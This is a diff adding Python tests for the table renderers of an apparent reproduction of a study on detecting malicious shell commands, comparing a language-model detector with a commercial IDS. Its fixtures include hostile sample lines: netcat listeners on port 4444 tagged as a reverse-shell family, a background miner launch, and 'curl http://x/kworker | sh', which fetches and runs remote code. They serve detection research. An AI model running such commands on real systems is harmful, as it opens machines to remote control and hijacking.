@@ -1,0 +1,111 @@
+"""Formatting-contract tests for experiment result renderers.
+
+These construct result objects directly (no world building) and check
+the rendered tables hold the rows, headers, and paper-reference columns
+the drivers promise.
+"""
+
+import numpy as np
+
+from repro.evaluation.comparison import F1Comparison
+from repro.evaluation.runs import Aggregate
+from repro.experiments.baselines import BaselineComparison, ranking_auc
+from repro.experiments.continual import ContinualResult
+from repro.experiments.f1_comparison import F1Result
+from repro.experiments.table1 import Table1Result
+from repro.experiments.table2 import Table2Result
+from repro.experiments.table3 import ExamplePair, Table3Result
+
+
+def agg(mean):
+    return Aggregate(mean=mean, std=0.01, n_runs=5)
+
+
+class TestTable1Render:
+    def test_contains_all_methods_and_paper_columns(self):
+        result = Table1Result(
+            reconstruction_po=agg(0.8), reconstruction_poi=agg(0.9),
+            classification_po=agg(0.7), classification_poi=agg(0.85),
+            retrieval_po=0.6, retrieval_poi=0.74, n_runs=5,
+        )
+        text = result.render()
+        for needle in ("Reconstruction", "Classification", "Retrieval", "0.913", "PO (paper)"):
+            assert needle in text
+
+
+class TestTable2Render:
+    def test_mixed_aggregate_and_float_cells(self):
+        result = Table2Result(v1=25, v2=100, n_runs=5)
+        for method in ("reconstruction", "classification", "classification (multi)"):
+            result.po_at_v1[method] = agg(0.9)
+            result.po_at_v2[method] = agg(0.8)
+        result.po_at_v1["retrieval"] = 0.96
+        result.po_at_v2["retrieval"] = 0.84
+        text = result.render()
+        assert "PO@25" in text and "PO@1000 (paper)" in text
+        assert "0.960" in text
+
+
+class TestTable3Render:
+    def _pair(self, generalizes=True):
+        return ExamplePair(
+            family="reverse_shell",
+            inbox_line="nc -lvnp 4444",
+            outbox_line="nc -ulp 4444",
+            ids_flags_inbox=True,
+            ids_flags_outbox=False,
+            model_score_inbox=0.99,
+            model_score_outbox=0.9 if generalizes else 0.1,
+        )
+
+    def test_generalization_property(self):
+        assert self._pair(True).demonstrates_generalization
+        assert not self._pair(False).demonstrates_generalization
+
+    def test_render_and_count(self):
+        result = Table3Result(pairs=[self._pair(True), self._pair(False)])
+        assert result.n_generalized == 1
+        assert "nc -lvnp 4444" in result.render()
+
+
+class TestF1Render:
+    def test_render_includes_both_systems(self):
+        comparison = F1Comparison(
+            ours_precision=0.9, ours_recall=1.0, ours_f1=0.947,
+            ids_precision=1.0, ids_recall=0.5, ids_f1=0.667,
+        )
+        result = F1Result(comparison=comparison, s_commercial=96, t_predicted=266)
+        text = result.render()
+        assert "commercial IDS" in text
+        assert "S=96" in text
+        assert comparison.model_wins
+
+
+class TestBaselineComparisonRender:
+    def test_render(self):
+        result = BaselineComparison(
+            overall={"Lane & Brodley profiles": 0.76, "LM classification (ours)": 0.99},
+            low_history={"Lane & Brodley profiles": 0.9, "LM classification (ours)": 1.0},
+            n_low_history=91,
+        )
+        text = result.render()
+        assert "n=91" in text and "0.990" in text
+
+    def test_ranking_auc_known_case(self):
+        scores = np.array([0.9, 0.8, 0.1, 0.2])
+        labels = np.array([1, 1, 0, 0])
+        assert ranking_auc(scores, labels) == 1.0
+
+    def test_ranking_auc_degenerate(self):
+        assert np.isnan(ranking_auc(np.ones(3), np.ones(3)))
+
+
+class TestContinualRender:
+    def test_render_and_gain(self):
+        result = ContinualResult(
+            frozen_scores=[0.5, 0.6],
+            continual_scores=[0.9, 1.0],
+            probe_lines=["nohup ./miner &", "curl http://x/kworker | sh"],
+        )
+        assert abs(result.mean_gain - 0.4) < 1e-12
+        assert "weekly-updated" in result.render()
